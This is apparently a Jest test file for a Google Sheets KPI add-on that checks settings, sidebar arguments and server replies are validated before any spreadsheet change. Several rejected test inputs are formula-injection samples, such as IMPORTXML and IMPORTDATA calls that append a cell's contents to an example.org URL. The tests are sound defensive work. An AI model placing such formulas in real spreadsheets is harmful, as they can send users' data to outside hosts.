/**
 * Input the panel did not make itself: the settings read back from the workbook, the arguments the
 * Sheets server functions get from the sidebar (checked in the BUILT Code.js, before any
 * spreadsheet call) and the replies the sidebar gets back. Bad input gets a message that says what
 * is wrong, and nothing is changed.
 */
import { loadSheetsBundle } from "../helpers/bundles";
import { readSavedSettings, parseSettings } from "../../panel/shared/settings";
import { STYLE_FORMATS, writtenValue } from "../../panel/host";
import { ScriptRunner, SheetsHost } from "../../sheets-addon/sheets-host";
import { SETTINGS_MAX_LENGTH, readNewSheetSpec } from "../../sheets-addon/server-arguments";

describe("settings read back from the workbook", () => {
  test("settings as the panel saves them are read without a problem", () => {
    expect(readSavedSettings('{"version":1,"excluded":{"*":["2020/21"],"Recycling":["2019/20"]}}')).toEqual({
      settings: { version: 1, excluded: { "*": ["2020/21"], Recycling: ["2019/20"] } },
    });
    expect(readSavedSettings(null)).toEqual({ settings: { version: 1, excluded: {} } });
  });

  test("a period that is not text is named, the rest kept", () => {
    const saved = readSavedSettings('{"version":1,"excluded":{"*":["2020/21", 7]}}');
    expect(saved.settings.excluded).toEqual({ "*": ["2020/21"] });
    expect(saved.problem).toBe('The saved settings could not all be read: "excluded" › "*" › item 2 is not a period label (text).');
  });

  test("text that is not JSON, a later version or another shape: said, and nothing used that cannot be read", () => {
    expect(readSavedSettings("{not json")).toEqual({ settings: parseSettings(null), problem: expect.stringMatching(/not in the form KPI Scrutiny saves them/) });
    expect(readSavedSettings('{"version":2,"excluded":{}}').problem).toMatch(/"version" is a version this release cannot read/);
    expect(readSavedSettings("[1,2]").problem).toMatch(/are not settings of KPI Scrutiny/);
    expect(readSavedSettings('{"excluded":{"*":"2020/21"}}')).toEqual({ settings: { version: 1, excluded: {} }, problem: expect.stringMatching(/"\*" is not a list of periods/) });
  });
});

describe("the host contract writes text as text", () => {
  test("text that would start a formula gets an apostrophe; empty cells are empty", () => {
    expect(["=1+1", "+44 161", "-3 days", "@home", "Recycling", 4.5, true, null].map(writtenValue)).toEqual(["'=1+1", "'+44 161", "'-3 days", "'@home", "Recycling", 4.5, true, ""]);
  });

  test("every cell style has a format, with colours as #RRGGBB", () => {
    for (const format of Object.values(STYLE_FORMATS)) {
      for (const colour of [format.fill, format.color]) if (colour !== undefined) expect(colour).toMatch(/^#[0-9A-F]{6}$/);
    }
  });
});

describe("arguments from the sidebar (server-arguments.ts)", () => {
  const good = { baseName: "KPI report", rows: [["KPI", 1, true, null]], styles: { "0:*": "header" }, columnWidths: [220], frozenRows: 1, charts: [{ title: "A", dataRow: 0, dataColumn: 0, rows: 2, columns: 2, anchorRow: 0, anchorColumn: 3 }] };

  test("a new sheet as the panel builds it is accepted as it is", () => {
    expect(readNewSheetSpec(good)).toBe(good);
  });

  test("the summary's counting formulas and a print setup are accepted", () => {
    const summary = {
      ...good,
      rows: [["Green", { formula: `=COUNTIF('Bob''s "KPI" report'!$I$5:$I$40,"Green")` }, { formula: '=IFERROR(COUNTIFS($B$5:$B$9,"=",$I$5:$I$9,"<>Red")/COUNTA($A$5:$A$9),0)' }]],
      print: { landscape: false, fitToWidth: true, title: "Summary: Trafford, 2022/23", repeatRows: { first: 3, last: 3 } },
    };
    expect(readNewSheetSpec(summary)).toBe(summary);
    const long = { ...good, rows: [[{ formula: '=SUMPRODUCT(($B$5:$B$6="LEFT(x)")*(LEFT($I$5:$I$6,3)="Red"))' }]] };
    expect(readNewSheetSpec(long)).toBe(long);
  });

  test.each([
    ["no sheet at all", null, /the new sheet must describe a new sheet/],
    ["an empty name", { ...good, baseName: "" }, /"baseName" must be text, not empty/],
    ["rows that are not a list", { ...good, rows: "A1" }, /"rows" must be a list of rows/],
    ["a cell that is an object", { ...good, rows: [["KPI"], ["x", { value: 1 }]] }, /"rows" › item 2 › item 2 must be a formula starting with =/],
    ["a cell that is a list", { ...good, rows: [["KPI"], ["x", [1]]] }, /"rows" › item 2 › item 2 must be text, a number, TRUE\/FALSE, a formula or empty/],
    ["a formula that fetches a web page", { ...good, rows: [[{ formula: '=IMPORTXML("https://example.org/?"&A1,"//a")' }]] }, /may call only COUNTIF, COUNTIFS, COUNTA, SUMPRODUCT, LEFT, IFERROR, not IMPORTXML/],
    ["a formula that shows a picture from the web", { ...good, rows: [[{ formula: '=IFERROR(IMAGE("https://example.org/p.gif"),0)' }]] }, /not IMAGE/],
    ["a formula naming a named range", { ...good, rows: [[{ formula: '=COUNTIF(Secrets,"x")' }]] }, /may name only cells and ranges, not Secrets/],
    ["a formula with an open quote", { ...good, rows: [[{ formula: '=COUNTIF(A1:A3,"x)' }]] }, /must close every quoted text/],
    ["a call hidden between a quote in a text and one in another", { ...good, rows: [[{ formula: `="a'"&IMPORTXML("https://example.org","//a")&"'!"` }]] }, /not IMPORTXML/],
    ["a quoted name that is no sheet", { ...good, rows: [[{ formula: "=COUNTIF('x',\"a\")" }]] }, /must close every quoted text and sheet name/],
    ["a print setup without a title", { ...good, print: { landscape: true, fitToWidth: true } }, /"print" › "title" must be text/],
    ["print title rows in the wrong order", { ...good, print: { landscape: true, fitToWidth: true, title: "KPI report", repeatRows: { first: 3, last: 1 } } }, /"print" › "repeatRows" must be a first and last row/],
    ["an unknown style", { ...good, styles: { "0:*": "shouting" } }, /"styles" › "0:\*" must be one of the styles header, title/],
    ["a style placed A1-wise", { ...good, styles: { A1: "header" } }, /must name cells such as 3:7 or 3:\*, not "A1"/],
    ["a negative width", { ...good, columnWidths: [-5] }, /"columnWidths" › item 1 must be a number of pixels/],
    ["half a frozen row", { ...good, frozenRows: 1.5 }, /"frozenRows" must be a whole number/],
    ["a chart of no rows", { ...good, charts: [{ ...good.charts[0], rows: 0 }] }, /"charts" › item 1 › "rows" must be a whole number, 1 or more/],
  ])("%s is refused with where and what", (_label, spec, message) => {
    expect(() => readNewSheetSpec(spec)).toThrow(message);
    expect(() => readNewSheetSpec(spec)).toThrow(/Nothing was changed/);
  });
});

describe("the built Code.js checks the sidebar's arguments before touching the spreadsheet", () => {
  const calls: string[] = [];
  /** Apps Script services that record every call; none should be made for a bad argument. */
  const recorder = new Proxy({}, { get: (_target, service: string) => new Proxy({}, { get: (_s, method: string) => () => calls.push(`${service}.${method}`) }) });
  const bundle = loadSheetsBundle({ SpreadsheetApp: (recorder as Record<string, unknown>).SpreadsheetApp, PropertiesService: (recorder as Record<string, unknown>).PropertiesService });
  const call = (name: string, ...args: unknown[]) => (bundle.context[name] as (...values: unknown[]) => unknown)(...args);

  beforeEach(() => calls.splice(0));

  test.each([
    ["kpiPanelCreateSheet", "a cell that is an object", { baseName: "KPI report", rows: [[{}]] }, /could not use what the sidebar sent: in the new sheet, "rows" › item 1 › item 1 must be a formula starting with =/],
    ["kpiPanelCreateSheet", "a formula that fetches a web page", { baseName: "KPI report", rows: [[{ formula: '=IMPORTDATA("https://example.org/"&A1)' }]] }, /not IMPORTDATA/],
    ["kpiPanelCreateSheet", "a name instead of a sheet", "KPI report", /the new sheet must describe a new sheet/],
    ["kpiPanelCreateSheet", "a number format for a whole row", { baseName: "KPI report", rows: [[1]], numberFormats: { "0:*": "0.0" } }, /"numberFormats" must name cells such as 3:7, not "0:\*"/],
    ["kpiPanelCreateSheet", "a number format that is not text", { baseName: "KPI report", rows: [[1]], numberFormats: { "0:0": 7 } }, /"numberFormats" › "0:0" must be a number format, text of 1 to 200 characters/],
    ["kpiPanelReadSheet", "a number for a name", 42, /the sheet name must be text, not empty/],
    ["kpiPanelActivateSheet", "an empty name", "", /the sheet name must be text, not empty/],
    ["kpiPanelSaveSettings", "an object for the text", { excluded: {} }, /the settings must be text/],
    ["kpiPanelSaveSettings", "text over 9,000 characters", "x".repeat(SETTINGS_MAX_LENGTH + 1), /too large to save; leave fewer periods out/],
  ])("%s with %s is refused and no spreadsheet call is made", (name, _label, argument, message) => {
    expect(() => call(name, argument)).toThrow(message);
    expect(calls).toEqual([]);
  });
});

describe("replies the sidebar gets from the server (server-replies.ts)", () => {
  /** A google.script.run stand-in whose every function replies `reply`. */
  function runnerReplying(reply: unknown): () => ScriptRunner {
    return () => {
      let success: (value: unknown) => void = () => undefined;
      const runner: ScriptRunner = {
        withSuccessHandler(handler) {
          success = handler;
          return runner;
        },
        withFailureHandler() {
          return runner;
        },
      };
      for (const name of ["kpiPanelSelection", "kpiPanelListSheets", "kpiPanelReadSheet", "kpiPanelCreateSheet", "kpiPanelLoadSettings", "kpiPanelSaveSettings"]) {
        runner[name] = () => setTimeout(() => success(reply), 0);
      }
      return runner;
    };
  }

  test("a reply in the expected form is passed on", async () => {
    const data = { sheet: "Sample KPIs", address: "A1:B2", values: [["KPI", 2023], ["Recycling", null]] };
    await expect(new SheetsHost(runnerReplying(data)).readSheet("Sample KPIs")).resolves.toEqual(data);
    await expect(new SheetsHost(runnerReplying(null)).loadSettings()).resolves.toBeNull();
  });

  test("a reply the panel cannot use is said, with the fix", async () => {
    await expect(new SheetsHost(runnerReplying({ sheet: "S", address: "A1", values: [[{ a: 1 }]] })).readSheet("S")).rejects.toThrow(
      /cannot read \(kpiPanelReadSheet: "values" › item 1 › item 1 must be text, a number, TRUE\/FALSE or empty\).*update it from the latest Code\.js/,
    );
    await expect(new SheetsHost(runnerReplying("Sheet1")).listSheets()).rejects.toThrow(/kpiPanelListSheets: must be a list of sheet names/);
  });
});
